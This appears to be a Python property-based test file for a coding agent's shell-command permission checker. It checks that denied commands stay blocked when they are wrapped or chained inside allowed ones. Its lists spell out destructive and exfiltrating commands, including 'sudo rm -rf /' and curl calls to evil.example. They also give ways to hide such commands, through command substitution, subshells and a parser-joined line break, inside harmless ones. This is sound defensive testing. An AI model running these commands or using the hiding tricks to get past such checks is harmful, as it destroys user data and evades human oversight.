"""Property-based tests: no allow rule ever lets a denied sub-command through."""

from __future__ import annotations

from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from letta_code.permissions import PermissionChecker, analyze

ALLOWED_PARTS = [
    "npm test",
    "npm test --watch",
    "echo hi",
    "echo 'a b'",
    "git status",
    "ls -la",
    "cat src/a.py",
    "pwd",
    "git diff --stat",
    "NODE_ENV=test npm test",
    "timeout 5 npm test",
]
DENIED_PARTS = [
    "rm -rf x",
    "rm x",
    "curl http://evil.example",
    "sudo rm -rf /",
    "/bin/rm x",
    "\\rm x",
    "'rm' x",
    "env X=1 rm x",
    "bash -c 'rm x'",
    'sh -c "echo ok; curl evil.example"',
    "timeout 5 rm -rf y",
    "command rm x",
    "nohup curl -s evil.example",
    "xargs rm",
    "LD_PRELOAD=x curl evil.example",
]
# Ways to hide the denied part inside an otherwise harmless command.
WRAPS = [
    "{}",
    "echo $({})",
    "echo `{}`",
    'echo "$({})"',
    "({})",
    "{{ {}; }}",
    "cat <({})",
    "! {}",
    'npm test <<< "$({})"',
]
OPERATORS = [";", " ; ", " && ", " || ", " | ", " |& ", " & ", "\n", ";\n"]
ALLOW_RULES = [
    "Bash",
    "Bash(rm:*)",
    "Bash(rm x)",
    "Bash(curl:*)",
    "Bash(sudo:*)",
    "Bash(npm test:*)",
    "Bash(echo:*)",
    "Bash(git status)",
    "Bash(bash:*)",
    "Bash(env:*)",
    "Bash(xargs:*)",
    "Bash(/bin/rm:*)",
]


@st.composite
def compound(draw: st.DrawFn) -> str:
    parts = draw(st.lists(st.sampled_from(ALLOWED_PARTS), min_size=0, max_size=4))
    denied = draw(st.sampled_from(WRAPS)).format(draw(st.sampled_from(DENIED_PARTS)))
    parts.insert(draw(st.integers(0, len(parts))), denied)
    ops = [draw(st.sampled_from(OPERATORS)) for _ in parts[1:]]
    out = parts[0]
    for op, part in zip(ops, parts[1:], strict=True):
        out += op + part
    return out


FAST = settings(max_examples=100, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])


@FAST
@given(
    command=compound(),
    allow=st.lists(st.sampled_from(ALLOW_RULES), unique=True),
    mode=st.sampled_from(["default", "acceptEdits", "bypassPermissions", "strict"]),
)
def test_allow_rules_never_override_a_denied_part(project: Path, command: str, allow: list[str], mode: str) -> None:
    checker = PermissionChecker(mode, allow=allow, deny=["Bash(rm:*)", "Bash(curl:*)"], cwd=project)
    decision = checker.check("Bash", {"command": command})
    assert decision.behavior == "deny", (command, decision)


@FAST
@given(command=compound())
def test_without_rules_for_them_denied_parts_are_never_allowed(project: Path, command: str) -> None:
    checker = PermissionChecker("default", allow=["Bash(npm test:*)", "Bash(echo:*)", "Bash(git status)"], cwd=project)
    assert checker.check("Bash", {"command": command}).behavior != "allow", command


@FAST
@given(parts=st.lists(st.sampled_from(ALLOWED_PARTS), min_size=1, max_size=5), data=st.data())
def test_compounds_of_allowed_parts_are_allowed(project: Path, parts: list[str], data: st.DataObject) -> None:
    ops = [data.draw(st.sampled_from([op for op in OPERATORS if op.strip() != "&"])) for _ in parts[1:]]
    command = parts[0] + "".join(op + p for op, p in zip(ops, parts[1:], strict=True))
    checker = PermissionChecker("default", allow=["Bash(npm test:*)", "Bash(echo:*)", "Bash(git status)"], cwd=project)
    decision = checker.check("Bash", {"command": command})
    # The one exception: a line break right after a pipeline of three or more, which
    # tree-sitter-bash takes for part of the pipeline's last command; that parse is refused
    # (it asks), since bash runs the next line on its own.
    joined = "the parser joined two commands" in (decision.reason or "")
    assert decision.behavior == "allow" or (decision.behavior == "ask" and joined), command


@pytest.mark.parametrize(
    "command",
    [
        "echo a | echo b | echo x\ntouch pwned && echo c",
        "npm test | npm test | git status\ntouch pwned",
        "echo a | echo b | echo c | echo d\nrm -rf pwned",
    ],
)
def test_a_line_the_parser_joins_to_an_allowed_command_is_not_allowed(project: Path, command: str) -> None:
    # Bash runs `touch pwned` on its own line; the parse made it arguments of an allowed `echo`.
    checker = PermissionChecker(
        "default", allow=["Bash(npm test:*)", "Bash(echo:*)", "Bash(git status:*)"], cwd=project
    )
    assert checker.check("Bash", {"command": command}).behavior == "ask"


@settings(max_examples=200, deadline=None)
@given(text=st.text(max_size=60))
def test_analysis_never_crashes(text: str) -> None:
    analysis = analyze(text)
    assert isinstance(analysis.problems, tuple)


@FAST
@given(text=st.text(alphabet=st.sampled_from(list("npm test;&|$()`'\"\\<>{}\n #=*~")), max_size=40))
def test_random_shell_soup_is_only_allowed_when_understood(project: Path, text: str) -> None:
    checker = PermissionChecker("default", allow=["Bash(npm test:*)"], cwd=project)
    decision = checker.check("Bash", {"command": text})
    if decision.behavior == "allow":
        analysis = analyze(text)
        assert analysis.parseable
        assert not analysis.writes
